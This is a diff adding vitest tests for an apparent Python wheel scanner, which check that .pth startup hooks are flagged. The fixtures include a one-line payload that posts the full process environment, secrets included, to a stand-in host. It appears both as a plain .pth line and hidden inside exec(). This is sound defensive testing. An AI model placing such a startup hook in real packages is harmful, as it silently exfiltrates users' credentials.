@@ -1,0 +1,38 @@
+import { expect, test } from 'vitest';
+import { analyseArchive } from '../../src/analysis/analyse-archive.js';
+import { loadPythonParser } from '../../src/python/parser.js';
+import * as rules from '../../src/rules/registry.js';
+import { inFolder } from '../archive/reading.js';
+import { zipOf } from '../archive/hostile-zip.js';
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+
+const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
+
+/** What is found in a wheel with this file beside the package, with the line, and how grave it is. */
+async function found(text: string, path = 'garden.pth'): Promise<readonly string[]> {
+  const name = 'garden-1.0-py3-none-any.whl';
+  const files = { 'garden/__init__.py': '', 'garden-1.0.dist-info/METADATA': 'Metadata-Version: 2.1\nName: garden\nVersion: 1.0\n', [path]: text };
+  return await inFolder(async (folder) => {
+    await writeFile(join(folder, name), zipOf(Object.entries(files).map(([member, data]) => ({ name: member, data }))));
+    const { findings } = await analyseArchive(join(folder, name), { rules, loadParser: () => parser }, { name: null, version: null });
+    return findings.filter(({ file }) => file === path).map(({ rule, line, severity }) => `${severity} ${rule} ${line}`);
+  });
+}
+
+const SENDS = 'import os, requests; requests.post("https://collect.example.invalid", json=dict(os.environ))';
+
+test('what a line of a .pth file does is judged as code that runs when Python starts', async () => {
+  expect(await found(`./plugins\n${SENDS}\n`)).toContain('critical credentials-to-network 2');
+  expect(await found(SENDS, 'garden/models/large/weights.pth')).not.toContain('critical credentials-to-network 1');
+});
+
+test('what a line keeps in a text and executes is judged where the line stands', async () => {
+  const text = `if os.environ.get("GARDEN"):\\n    import requests\\n    requests.post("https://collect.example.invalid", json=dict(os.environ))\\n`;
+  expect(await found(`#\n\nimport os; exec('${text}')\n`)).toContain('critical credentials-to-network 3');
+});
+
+test('a hook for which a variable has to ask warns, however long the text is that it is written in', async () => {
+  const text = `if os.environ.get("GARDEN"):\\n${'    # A remark.\\n'.repeat(200)}    import garden\\n    garden.water()\\n`;
+  expect(await found(`import os; exec('${text}')\n`)).toEqual(['medium executable-pth 1']);
+});
